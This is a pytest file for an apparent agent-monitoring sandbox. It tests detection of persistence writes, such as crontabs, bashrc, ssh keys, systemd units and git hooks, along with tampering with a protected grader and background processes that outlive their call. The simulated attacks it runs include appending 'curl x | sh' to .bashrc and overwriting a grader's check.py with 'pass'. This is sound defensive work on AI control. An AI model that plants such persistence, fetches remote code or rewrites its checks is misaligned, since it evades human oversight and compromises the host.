"""The file sensor: persistence writes in real time and the end-of-episode diff."""

from __future__ import annotations

from bastion.events import EventKind
from bastion.sensors.persistence import classify

from .monitor import events_of, verdicts_named, wait_for


def test_classify_persistence_locations():
    assert classify(".crontab") == "cron"
    assert classify("crontabs/agent") == "cron"
    assert classify(".bashrc") == "shell_rc"
    assert classify(".ssh/authorized_keys") == "ssh"
    assert classify(".config/systemd/user/miner.service") == "systemd"
    assert classify("repo/.git/hooks/pre-commit") == "git_hook"
    assert classify("repo/.git/hooks/pre-commit.sample") is None
    assert classify("venv/lib/python3.11/site-packages/evil.pth") == "python_pth"
    assert classify("src/sitecustomize.py") == "python_startup"
    assert classify("etc/ld.so.preload") == "ld_preload"
    assert classify("src/main.py") is None
    assert classify("README.md") is None


def test_episode_end_diff_finds_a_crontab_written_by_the_agent(monitored):
    s = monitored()
    s.exec("mkdir -p repo/.git/hooks && echo '#!/bin/sh' > repo/.git/hooks/post-checkout",
           call_id="c1")
    s.exec("echo '* * * * * /workspace/.x/run.sh' > ~/.crontab && echo ok", call_id="c2")
    s.close()
    diffs = {e.fields["file.path"]: e for e in events_of(s, EventKind.FILE_DIFF)}
    assert "/workspace/.crontab" in diffs, list(diffs)
    crontab = diffs["/workspace/.crontab"]
    assert crontab.fields["file.op"] == "create"
    assert crontab.fields["file.class"] == "cron"
    assert crontab.fields["file.location"] == "persistence"
    assert len(crontab.fields["file.sha256"]) == 64
    assert diffs["/workspace/repo/.git/hooks/post-checkout"].fields["file.class"] == "git_hook"
    assert [v for v in verdicts_named(s, "test.crontab_written")
            if v.evidence.get("file.path") == "/workspace/.crontab"]


def test_diff_reports_modified_and_deleted_files(monitored, sensors):
    s = monitored()
    s.exec("echo 'alias ls=ls' > .bashrc; mkdir -p .ssh; echo key > .ssh/authorized_keys",
           call_id="c1")
    sensors.files.diff(s)  # new baseline
    s.exec("echo 'curl x | sh' >> .bashrc; rm .ssh/authorized_keys", call_id="c2")
    changes = {c["file.path"]: c["file.op"] for c in sensors.files.diff(s)}
    assert changes == {"/workspace/.bashrc": "write", "/workspace/.ssh/authorized_keys": "delete"}


def test_real_time_write_to_persistence_location(monitored):
    s = monitored()
    s.exec("mkdir -p .config/systemd/user && echo '[Service]' > "
           ".config/systemd/user/x.service", call_id="c7", step=7)
    found = wait_for(lambda: [e for e in events_of(s, EventKind.FILE_WRITE)
                              if e.fields["file.path"].endswith("x.service")])
    assert found, [e.fields for e in events_of(s, EventKind.FILE_WRITE)]
    assert found[0].fields["file.class"] == "systemd"
    assert found[0].call_id == "c7"
    s.exec("echo '* * * * * x' > .crontab", call_id="c8")  # a bare `crontab` file runs nowhere
    assert wait_for(lambda: verdicts_named(s, "test.crontab_written"))


def test_ordinary_files_are_not_reported(monitored):
    s = monitored()
    s.exec("mkdir -p src && echo 'print(1)' > src/main.py && echo hi > notes.txt", call_id="c1")
    s.close()
    assert not events_of(s, EventKind.FILE_WRITE)
    assert not events_of(s, EventKind.FILE_DIFF)


def test_protected_paths_are_baselined_and_diffed(state_dir, sensors):
    import os
    import shutil
    import tempfile
    from pathlib import Path

    from .monitor import monitored_session

    grader = Path(tempfile.mkdtemp(prefix="bastion-grader-", dir="/var/tmp"))
    (grader / "check.py").write_text("assert solution() == 42\n")
    os.chmod(grader, 0o755)
    s = monitored_session(state_dir, {"sandbox": {"protected": [str(grader)]}})
    try:
        r = s.exec(f"echo 'pass' > {grader}/check.py", call_id="c1")
        assert r.exit_code != 0  # read-only inside the sandbox
        # a writer outside the sandbox (a compromised helper, a shared volume) is seen
        (grader / "check.py").write_text("pass\n")
        live = wait_for(lambda: [e for e in events_of(s, EventKind.FILE_WRITE)
                                 if e.fields["file.location"] == "protected"])
        assert live and live[0].fields["file.path"] == f"{grader}/check.py"
        changes = {c["file.path"]: c for c in sensors.files.diff(s)}
        assert changes[f"{grader}/check.py"]["file.op"] == "write"
        assert changes[f"{grader}/check.py"]["file.class"] == "protected"
    finally:
        s.close()
        shutil.rmtree(grader, ignore_errors=True)


def test_a_background_writer_is_charged_to_its_own_call(monitored, sensors):
    """Call c1 leaves a process behind that writes a crontab while the innocent call
    c2 runs: the event, the verdict and the kill land on c1; c2 runs to its end."""
    if not sensors.files.attributes_writers:
        import pytest
        pytest.skip("fanotify is unavailable here: writes are charged to the latest call")
    s = monitored({"response": {"medium": "kill"}})
    r1 = s.exec("(sleep 1; echo '* * * * * x' > ~/.crontab; sleep 30) >/dev/null 2>&1 &",
                call_id="c1", step=1)
    assert r1.exit_code == 0
    r2 = s.exec("sleep 4; echo innocent", call_id="c2", step=2, timeout=20)
    assert r2.outcome.value == "ok" and "innocent" in r2.stdout, r2
    writes = [e for e in events_of(s, EventKind.FILE_WRITE)
              if e.fields["file.path"] == "/workspace/.crontab"]
    assert writes and {e.call_id for e in writes} == {"c1"}, [(e.call_id, e.fields)
                                                             for e in writes]
    assert writes[0].fields["file.attribution"] == "writer" and writes[0].pid
    [verdict] = [v for v in verdicts_named(s, "test.crontab_written")
                 if v.evidence.get("file.path", "/workspace/.crontab") == "/workspace/.crontab"
                 and v.call_id is not None][:1]
    assert verdict.call_id == "c1" and verdict.step == 1
    assert verdict.id in {v.id for v in r2.verdicts}  # delivered late, with c2's result
    assert verdict.action.value == "kill"


def test_writes_by_bastion_itself_are_not_the_agents(monitored):
    s = monitored()
    s.exec("true", call_id="c1")
    (s.workspace / ".bashrc").write_text("export HOST_WROTE=1\n")  # the host, not the agent
    s.exec("sleep 0.3", call_id="c2")
    assert not [e for e in events_of(s, EventKind.FILE_WRITE)
                if e.fields["file.path"] == "/workspace/.bashrc"]


def test_without_fanotify_writes_are_charged_to_the_latest_call(state_dir):
    """The inotify fallback cannot see the writer: it says so on every event."""
    from bastion.sensors import FileSensor

    from .monitor import bare_host, monitored_session

    sensor = FileSensor(fanotify=False)
    assert not sensor.attributes_writers
    bare_host(state_dir).add_observer(sensor)
    s = monitored_session(state_dir)
    try:
        s.exec("echo '* * * * * x' > ~/.crontab", call_id="c4", step=4)
        found = wait_for(lambda: [e for e in events_of(s, EventKind.FILE_WRITE)
                                  if e.fields["file.path"] == "/workspace/.crontab"])
        assert found and found[0].call_id == "c4"
        assert found[0].fields["file.attribution"] == "latest_call"
    finally:
        s.close()
        sensor.close()
